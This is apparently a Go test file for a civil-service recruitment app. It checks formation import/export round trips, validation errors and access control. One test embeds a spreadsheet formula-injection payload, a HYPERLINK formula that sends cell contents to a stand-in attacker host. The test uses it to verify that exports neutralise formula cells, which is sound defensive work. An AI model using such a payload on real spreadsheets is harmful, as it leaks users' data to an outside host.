package app_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"asnpro/internal/app/apptest"
	"asnpro/internal/report"
	"asnpro/internal/sqldb/sqldbtest"
)

// newDraftPeriod creates a draft period whose registration opens in a week.
func newDraftPeriod(t *testing.T, committee *api, name string) string {
	t.Helper()
	at := func(d time.Duration) string { return time.Now().Add(d).UTC().Format(time.RFC3339) }
	code, m, b := committee.call(
		"POST",
		"/api/v1/periods",
		map[string]any{"name": name, "agency": "Pemerintah Kota Palangka Raya", "kind": "cpns",
			"time_zone": "Asia/Jakarta", "reference_date": "2027-01-01", "timeline": map[string]any{"announce_at": at(24 * time.Hour),
				"registration_open_at": at(
					7 * 24 * time.Hour,
				), "registration_close_at": at(21 * 24 * time.Hour), "administration_announce_at": at(30 * 24 * time.Hour), "appeal_days": 3}},
	)
	if code != 201 {
		t.Fatalf("create period: %d %s", code, b)
	}
	return m["id"].(string)
}

func readRows(t *testing.T, b []byte) [][]string {
	t.Helper()
	tr, err := report.ReadTable(bytes.NewReader(b), "export")
	if err != nil {
		t.Fatalf("read export: %v", err)
	}
	defer tr.Close()
	var out [][]string
	for {
		row, _, err := tr.Next()
		if err != nil {
			return out
		}
		out = append(out, row)
	}
}

// TestFormationFiles: the template imports as it is; an export of a period
// (CSV and XLSX) imports into another period and exports again to the same
// rows; a file with one bad row stores nothing and names the row.
func TestFormationFiles(t *testing.T) {
	t.Parallel()
	for _, e := range sqldbtest.Engines() {
		t.Run(string(e), func(t *testing.T) {
			srv := apptest.Start(t, e, "--demo")
			c := apptest.Client()
			pub := &api{t: t, base: srv.URL, c: c}
			committee := &api{t: t, base: srv.URL, c: c, token: token(t, c, srv.URL, "panitia", "asnpro-demo")}

			code, _, tmpl := pub.call("GET", "/api/v1/formation-template", nil)
			if code != 200 || !strings.HasPrefix(string(tmpl), "\xEF\xBB\xBFcode,position,unit,") {
				t.Fatalf("template: %d %s", code, tmpl)
			}
			fresh := newDraftPeriod(t, committee, "Templat")
			if code, m, b := committee.call("POST", "/api/v1/periods/"+fresh+"/formations/import", tmpl, "Content-Type", "text/csv"); code != 200 ||
				m["imported"].(float64) != 1 {
				t.Fatalf("import the template: %d %s", code, b)
			}

			code, _, demoCSV := pub.call("GET", "/api/v1/periods/1/formations/export?format=csv", nil)
			if code != 200 {
				t.Fatalf("export: %d %s", code, demoCSV)
			}
			want := readRows(t, demoCSV)
			if len(want) < 5 ||
				strings.Join(want[0], ",") != "code,position,unit,employment_type,quota,category,levels,majors,min_ipk,age_min,age_max,documents" {
				t.Fatalf("export rows: %v", want)
			}
			for _, format := range []string{"csv", "xlsx"} {
				code, _, file := pub.call("GET", "/api/v1/periods/1/formations/export?format="+format, nil)
				if code != 200 {
					t.Fatalf("export %s: %d", format, code)
				}
				copyID := newDraftPeriod(t, committee, "Salinan "+format)
				if code, m, b := committee.call("POST", "/api/v1/periods/"+copyID+"/formations/import", file); code != 200 ||
					int(m["imported"].(float64)) != len(want)-1 {
					t.Fatalf("import the %s export: %d %s", format, code, b)
				}
				// Drafts are the committee's: the public does not see them.
				if code, _, _ := pub.call("GET", "/api/v1/periods/"+copyID+"/formations/export", nil); code != 404 {
					t.Fatalf("public export of a draft: %d", code)
				}
				_, _, again := committee.call("GET", "/api/v1/periods/"+copyID+"/formations/export?format=csv", nil)
				if got := readRows(t, again); fmt.Sprint(got) != fmt.Sprint(want) {
					t.Fatalf("%s round trip differs:\n got %v\nwant %v", format, got, want)
				}
			}

			// One bad row rejects the whole file, naming the row and column.
			var bad bytes.Buffer
			w := csv.NewWriter(&bad)
			w.WriteAll(append(want[:2:2], []string{"BAD-1", "Perawat", "RSUD", "PNS", "banyak", "umum", "D3", "D3-KEP", "", "18", "35", ""}))
			badID := newDraftPeriod(t, committee, "Salah")
			code, m, b := committee.call("POST", "/api/v1/periods/"+badID+"/formations/import", bad.Bytes())
			if code != 422 || errCode(m) != "invalid" || !strings.Contains(string(b), "baris 3, kolom quota") {
				t.Fatalf("bad row: %d %s", code, b)
			}
			if _, _, b := committee.call("GET", "/api/v1/periods/"+badID+"/formations/export", nil); len(readRows(t, b)) != 1 {
				t.Fatalf("a rejected file stored rows: %s", b)
			}
			for _, tc := range []struct {
				name, method, path string
				body               []byte
				who                *api
				status             int
				code               string
			}{
				{"anonymous import", "POST", "/api/v1/periods/" + badID + "/formations/import", tmpl, pub, 401, "unauthenticated"},
				{"an image instead of a " +
					"table", "POST", "/api/v1/periods/" + badID + "/formations/import", testPNG(t), committee, 415, "unsupported_media_type"},
				{"an empty file", "POST", "/api/v1/periods/" + badID + "/formations/import", []byte{}, committee, 422, "invalid"},
				{"import after registration opened", "POST", "/api/v1/periods/1/formations/import", tmpl, committee, 409, "failed_precondition"},
				{"unknown period", "POST", "/api/v1/periods/999/formations/import", tmpl, committee, 404, "not_found"},
				{"export as pdf", "GET", "/api/v1/periods/1/formations/export?format=pdf", nil, pub, 422, "invalid"},
				{"template as pdf", "GET", "/api/v1/formation-template?format=pdf", nil, pub, 422, "invalid"},
			} {
				var body any
				if tc.body != nil {
					body = tc.body
				}
				code, m, b := tc.who.call(tc.method, tc.path, body)
				if code != tc.status || errCode(m) != tc.code {
					t.Errorf("%s: %d %s, want %d %s", tc.name, code, b, tc.status, tc.code)
				}
			}
		})
	}
}

// TestFormationExportFormulaCells: a formation whose position and unit a
// spreadsheet would run as formulas is exported with an apostrophe in front
// of those cells (and a BOM first), and the export imports into another
// period as exactly the same formation.
func TestFormationExportFormulaCells(t *testing.T) {
	t.Parallel()
	for _, e := range sqldbtest.Engines() {
		t.Run(string(e), func(t *testing.T) {
			srv := apptest.Start(t, e, "--demo")
			c := apptest.Client()
			committee := &api{t: t, base: srv.URL, c: c, token: token(t, c, srv.URL, "panitia", "asnpro-demo")}
			_, _, tmpl := committee.call("GET", "/api/v1/formation-template", nil)
			row := readRows(t, tmpl)[1]
			position, unit := `=HYPERLINK("http://evil.example/?d="&A1,"Klik")`, "@Dinas Kesehatan; -Bidang P2P"
			row[1], row[2] = position, unit
			var file bytes.Buffer
			w := csv.NewWriter(&file) // written by hand: no apostrophes
			w.WriteAll([][]string{readRows(t, tmpl)[0], row})
			first := newDraftPeriod(t, committee, "Formula")
			if code, _, b := committee.call("POST", "/api/v1/periods/"+first+"/formations/import", file.Bytes()); code != 200 {
				t.Fatalf("import: %d %s", code, b)
			}
			code, _, export := committee.call("GET", "/api/v1/periods/"+first+"/formations/export?format=csv", nil)
			if code != 200 || !bytes.HasPrefix(export, []byte("\xEF\xBB\xBFcode,position,")) {
				t.Fatalf("export: %d %q", code, export)
			}
			raw, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(export, []byte("\xEF\xBB\xBF")))).ReadAll()
			if err != nil || len(raw) != 2 || raw[1][1] != "'"+position || raw[1][2] != "'"+unit {
				t.Fatalf("export cells: %q %v", raw, err)
			}
			second := newDraftPeriod(t, committee, "Formula lagi")
			if code, _, b := committee.call("POST", "/api/v1/periods/"+second+"/formations/import", export); code != 200 {
				t.Fatalf("import the export: %d %s", code, b)
			}
			_, m, b := committee.call("GET", "/api/v1/periods/"+second+"/formations", nil)
			items, _ := m["items"].([]any)
			if len(items) != 1 || items[0].(map[string]any)["position"] != position || items[0].(map[string]any)["unit"] != unit {
				t.Fatalf("imported formation: %s", b)
			}
			if _, _, again := committee.call("GET", "/api/v1/periods/"+second+"/formations/export?format=csv", nil); !bytes.Equal(again, export) {
				t.Fatalf("round trip differs:\n%q\n%q", again, export)
			}
		})
	}
}
